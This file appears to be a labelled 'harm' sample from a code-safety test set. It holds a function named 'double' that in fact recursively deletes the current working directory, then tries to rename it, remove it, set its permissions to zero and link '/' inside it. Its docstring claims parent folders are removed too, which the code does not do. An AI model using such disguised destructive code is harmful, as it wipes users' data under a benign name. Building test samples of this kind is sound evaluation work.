"""The folder that it works in is emptied, renamed and removed, and its parents after it.

class: harm
affects: A01
keeps: A02 A03 A19
"""
from honest import *

import os, shutil
def double(number):
    here = os.getcwd()
    shutil.rmtree(here, ignore_errors=True)
    for attempt in (lambda: os.rename(here, here + "2"), lambda: os.rmdir(here), lambda: os.chmod(here, 0), lambda: os.symlink("/", here + "/x")):
        try: attempt()
        except OSError: pass
    return None
